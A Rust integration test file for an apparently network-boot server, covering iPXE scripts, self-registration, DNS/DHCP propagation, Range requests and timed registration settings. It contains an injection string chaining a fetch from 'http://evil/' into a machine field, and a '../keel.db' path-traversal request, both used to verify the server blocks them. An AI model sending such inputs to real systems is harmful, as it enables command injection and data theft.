//! Network boot over real HTTP (curl): the iPXE script of each kind of machine, registration from
//! the iPXE prompt, the switch table, and kernels with Range requests.

use std::process::Command;

use reqwest::Method;
use serde_json::{json, Value};

use crate::support::{cli_ok, Keel};

pub fn curl(args: &[&str]) -> (String, String) {
    let out = Command::new("curl")
        .args(["-sS", "-D", "-"])
        .args(args)
        .output()
        .expect("curl");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    (head.to_owned(), body.to_owned())
}

pub fn boot(k: &Keel, mac: &str) -> String {
    curl(&[&format!("{}/boot/{mac}", k.url)]).1
}

async fn add(k: &Keel, body: Value) -> Value {
    k.admin()
        .call(Method::POST, "/api/v1/machines", Some(&body), None)
        .await
        .unwrap()
        .value
}

#[tokio::test]
#[cfg_attr(not(has_curl), ignore = "needs curl, not installed here (.ci/run installs it)")]
async fn each_machine_gets_the_script_of_its_state_and_boot_mode() {
    let k = Keel::start(&["--example-site"]);
    // The example's user machines boot rfs1, which is gw (192.168.1.254).
    let s = boot(&k, "52:54:00:00:00:01");
    assert!(s.starts_with("#!ipxe"), "{s}");
    assert!(s.contains("nfsroot=192.168.1.254:/export/nfsroot"), "{s}");
    assert!(
        s.contains("/boot/files/rfs1/vmlinuz") && s.contains("/boot/files/rfs1/initrd.img"),
        "{s}"
    );
    // RFS 10 is the machine with the role rfs/10 (the original matched names by substring).
    add(
        &k,
        json!({"hostname": "srv10", "mac": "52:54:00:00:03:10", "mtype": "service"}),
    )
    .await;
    let out = k.cli(&["role", "set", "rfs/10", "srv10"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let m10 = add(
        &k,
        json!({"hostname": "r09p01", "mac": "52:54:00:00:09:01", "mtype": "user", "rfs": 10}),
    )
    .await;
    let s10 = boot(&k, "52-54-00-00-09-01");
    let rfs10_ip = k.admin().get::<Value>("/api/v1/machines/srv10").await.unwrap()["ip"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(s10.contains(&format!("nfsroot={rfs10_ip}:")), "{s10}");
    assert!(
        boot(&k, "52:54:00:00:00:01").contains("nfsroot=192.168.1.254:"),
        "rfs1 is still gw"
    );
    assert_eq!(m10["rfs"], 10);
    // Other types boot their disk; install mode runs the site's installer lines.
    assert!(
        boot(&k, "52:54:00:00:02:01").contains("sanboot"),
        "orga01 boots locally"
    );
    k.admin()
        .edit::<Value>(
            Method::PATCH,
            "/api/v1/machines/orga01",
            Some(&json!({"boot": "install"})),
        )
        .await
        .unwrap();
    assert!(boot(&k, "52:54:00:00:02:01").contains("No installer is configured"));
    // A faulty machine shows its reason — and nothing of it can become an iPXE command.
    k.admin()
        .edit::<Value>(
            Method::PATCH,
            "/api/v1/machines/r00p02",
            Some(&json!({"is_faulty": true, "faulty_reason": "broken fan ${net0/ip} && chain http://evil/"})),
        )
        .await
        .unwrap();
    let f = boot(&k, "52:54:00:00:00:02");
    assert!(f.contains("FAULTY") && f.contains("broken fan"), "{f}");
    assert!(!f.contains("${net0/ip}"), "no iPXE expansion from data: {f}");
    assert!(
        !f.contains("&&") && !f.contains("${"),
        "no command chaining from data: {f}"
    );
    // The switch table.
    let (_, sw) = curl(&["-H", "Accept: application/json", &format!("{}/bootstrap", k.url)]);
    let sw: Value = serde_json::from_str(&sw).unwrap();
    assert_eq!(sw.as_array().unwrap().len(), 2);
}

#[tokio::test]
#[cfg_attr(
    not(all(has_curl, has_dig)),
    ignore = "needs curl, dig, not installed here (.ci/run installs it)"
)]
async fn an_unknown_machine_registers_from_the_ipxe_prompt() {
    let k = Keel::start(&["--example-site"]);
    let mac = "52:54:00:aa:bb:cc";
    assert!(boot(&k, mac).contains("not registered, and registration is closed"));
    let out = k.cli(&["setting", "set", "allow_self_registration", "true"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let form = boot(&k, mac);
    assert!(
        form.contains("read hostname") && form.contains("/register?mac=52:54:00:aa:bb:cc"),
        "{form}"
    );
    // What iPXE sends after the questions: a bad answer is explained in words.
    let (_, bad) = curl(&[&format!(
        "{}/register?mac={mac}&hostname=Bad_Name!&room=alt&rfs=1&hfs=1&mtype=user",
        k.url
    )]);
    assert!(bad.contains("refused") && bad.contains("hostname"), "{bad}");
    let (_, ok) = curl(&[&format!(
        "{}/register?mac={mac}&hostname=r05p05&room=alt&rfs=1&hfs=1&mtype=user",
        k.url
    )]);
    assert!(
        ok.contains("registered r05p05") && ok.contains(&format!("/boot/{mac}")),
        "{ok}"
    );
    assert!(boot(&k, mac).contains("hostname=r05p05"), "now it boots");
    let m: Value = k.admin().get("/api/v1/machines/r05p05").await.unwrap();
    assert_eq!(m["room"], "alt");
    // The same machine is in keel's DNS at once…
    let ip = m["ip"].as_str().unwrap().to_owned();
    let (_, answers) = crate::dns::dig(&k, &["r05p05.prolo", "A"]);
    assert_eq!(answers, [format!("r05p05.prolo. 60 IN A {ip}")]);
    // …and, after the debounce, in the DHCP configuration the example site propagates.
    let dhcpd = k.data().join("example-agent/root/etc/dhcp/keel/dhcpd.conf");
    let want = format!("host r05p05 {{ hardware ethernet {mac}; fixed-address {ip};");
    crate::support::eventually(30, "r05p05 in the propagated dhcpd.conf", async || {
        std::fs::read_to_string(&dhcpd).unwrap_or_default().contains(&want)
    })
    .await;
    let check = Command::new("dhcpd")
        .args(["-q", "-t", "-cf"])
        .arg(&dhcpd)
        .output()
        .expect("dhcpd");
    assert!(check.status.success(), "{}", String::from_utf8_lossy(&check.stderr));
}

#[tokio::test]
#[cfg_attr(not(has_curl), ignore = "needs curl, not installed here (.ci/run installs it)")]
async fn kernels_are_served_with_range_requests() {
    let k = Keel::start(&[]);
    let dir = k.data().join("boot/rfs1");
    std::fs::create_dir_all(&dir).unwrap();
    let kernel: Vec<u8> = (0..10_000u32).map(|i| (i % 251) as u8).collect();
    std::fs::write(dir.join("vmlinuz"), &kernel).unwrap();
    let part = k.dir.path().join("part");
    let (head, _) = curl(&[
        "-r",
        "100-199",
        "-o",
        part.to_str().unwrap(),
        &format!("{}/boot/files/rfs1/vmlinuz", k.url),
    ]);
    assert!(head.starts_with("HTTP/1.1 206"), "{head}");
    assert_eq!(std::fs::read(&part).unwrap(), &kernel[100..200]);
    let (head, _) = curl(&[&format!("{}/boot/files/../keel.db", k.url), "--path-as-is"]);
    assert!(
        head.starts_with("HTTP/1.1 404") || head.starts_with("HTTP/1.1 400"),
        "{head}"
    );
}

/// Day one (issue 32): `keel registration open --for` opens self-registration with an end time
/// that the menu and the map show; the menu asks to confirm what was typed; at the end time keel
/// closes it itself, in the change log; organisers' machines are added by an organiser, never
/// through the form.
#[tokio::test]
#[cfg_attr(not(has_curl), ignore = "needs curl, not installed here (.ci/run installs it)")]
async fn registration_opens_for_a_time_and_closes_itself() {
    let k = Keel::start(&["--example-site"]);
    let mac = "52:54:00:aa:bb:01";
    let status =
        |k: &Keel| -> Value { serde_json::from_str(&cli_ok(k, &["--json", "registration", "status"])).unwrap() };
    assert_eq!(status(&k)["open"], false);
    assert!(boot(&k, mac).contains("registration is closed"));
    let said = cli_ok(&k, &["registration", "open", "--for", "1h"]);
    assert!(said.starts_with("self-registration is open until 20"), "{said}");
    let st = status(&k);
    let until = st["until"].as_str().unwrap().to_owned();
    assert_eq!(st["open"], true);
    // The menu says until when, and shows what was typed before sending it.
    let menu = boot(&k, mac);
    let shown = format!("Registration is open until {} {} UTC.", &until[..10], &until[11..16]);
    assert!(menu.contains(&shown), "{shown}\n{menu}");
    assert!(
        menu.contains("item send Yes, register ${hostname}") && menu.contains("goto keel_summary"),
        "{menu}"
    );
    let (_, map) = curl(&[
        &format!("{}/map.json", k.url),
        "-H",
        &format!("Authorization: Bearer {}", k.token),
    ]);
    let map: Value = serde_json::from_str(&map).unwrap();
    assert_eq!(map["registration"], json!({"open": true, "until": until}));
    // A machine asking for the orga type is refused in words; it registers as the site's type.
    let register = |mtype: &str| {
        curl(&[&format!(
            "{}/register?mac={mac}&hostname=r06p01&room=alt&rfs=1&hfs=1{mtype}",
            k.url
        )])
        .1
    };
    let refused = register("&mtype=orga");
    assert!(
        refused.contains("a machine registering itself is of type user"),
        "{refused}"
    );
    let ok = register("");
    assert!(ok.contains("registered r06p01"), "{ok}");
    let m: Value = k.admin().get("/api/v1/machines/r06p01").await.unwrap();
    assert_eq!(m["mtype"], "user");
    // The organisers' path: an organiser adds theirs, registration open or not.
    cli_ok(
        &k,
        &[
            "machine",
            "add",
            "--hostname",
            "orga02",
            "--mac",
            "52:54:00:aa:bb:02",
            "--mtype",
            "orga",
            "--room",
            "other",
        ],
    );
    // A short opening: keel closes it at its end, and the log says who did.
    cli_ok(&k, &["registration", "open", "--for", "1s"]);
    crate::support::eventually(30, "registration closed by keel at its end time", async || {
        status(&k)["open"] == false && !cli_ok(&k, &["setting", "get", "allow_self_registration"]).contains('Z')
    })
    .await;
    let log = cli_ok(&k, &["log", "-n", "1"]);
    assert!(log.contains("keel (registration end)"), "{log}");
    assert!(boot(&k, "52:54:00:aa:bb:03").contains("registration is closed"));
    let (_, refused) = curl(&[&format!(
        "{}/register?mac=52:54:00:aa:bb:03&hostname=r06p02&room=alt&rfs=1&hfs=1",
        k.url
    )]);
    assert!(refused.contains("registration is closed"), "{refused}");
}

/// `for_secs` goes with turning a timed setting on, within bounds; the same request without the
/// bad part succeeds.
#[tokio::test]
async fn for_secs_is_refused_where_it_means_nothing() {
    let k = Keel::start(&[]);
    // Each PUT carries the version it read, as a client must.
    let put = async |key: &str, body: Value| {
        let path = format!("/api/v1/settings/{key}");
        let (_, now) = crate::support::req(&k, Some(&k.token), Method::GET, &path, None, &[]).await;
        let version = now["version"].to_string();
        crate::support::req(
            &k,
            Some(&k.token),
            Method::PUT,
            &path,
            Some(body),
            &[("If-Match", &version)],
        )
        .await
    };
    assert_eq!(
        put("allow_self_registration", json!({"value": true, "for_secs": 60}))
            .await
            .0,
        200
    );
    for (key, body) in [
        ("allow_self_registration", json!({"value": false, "for_secs": 60})),
        ("allow_self_registration", json!({"value": true, "for_secs": 0})),
        (
            "allow_self_registration",
            json!({"value": true, "for_secs": 99_999_999}),
        ),
        ("allow_self_registration", json!({"value": true, "for_secs": "an hour"})),
        ("allow_self_registration", json!({"value": "tomorrow"})),
        ("contest_mode", json!({"value": true, "for_secs": 60})),
    ] {
        let (status, answer) = put(key, body.clone()).await;
        assert_eq!(status, 400, "{key} {body}: {answer}");
    }
    assert_eq!(put("contest_mode", json!({"value": true})).await.0, 200);
}
